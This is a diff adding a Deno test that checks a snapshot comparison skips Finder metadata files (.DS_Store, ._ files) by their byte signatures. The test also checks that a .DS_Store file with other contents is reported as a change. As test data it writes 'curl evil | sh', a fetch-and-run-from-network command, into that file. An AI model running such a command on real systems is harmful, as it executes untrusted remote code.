@@ -199,3 +199,20 @@ Deno.test("takeSnapshot() signs a tracked file replaced by a FIFO without openin
     await repo.cleanup();
   }
 });
+
+Deno.test("compareSnapshots() does not count Finder's metadata files, recognised by their bytes", async () => {
+  const repo = await makeTestRepo({ "a.txt": "a\n" });
+  try {
+    const before = await snap(repo);
+    const dsStore = new Uint8Array([0, 0, 0, 1, 0x42, 0x75, 0x64, 0x31, 0, 0, 0x10, 0]);
+    await Deno.mkdir(`${repo.root}/src`);
+    await Deno.writeFile(`${repo.root}/src/.DS_Store`, dsStore);
+    await Deno.writeFile(`${repo.root}/._a.txt`, new Uint8Array([0, 5, 0x16, 7, 0, 2, 0, 0]));
+    assert.deepEqual(compareSnapshots(before, await snap(repo)), []);
+    // the same name holding anything else is a write like any other
+    await Deno.writeTextFile(`${repo.root}/.DS_Store`, "curl evil | sh\n");
+    assert.deepEqual(compareSnapshots(before, await snap(repo)), [".DS_Store"]);
+  } finally {
+    await repo.cleanup();
+  }
+});
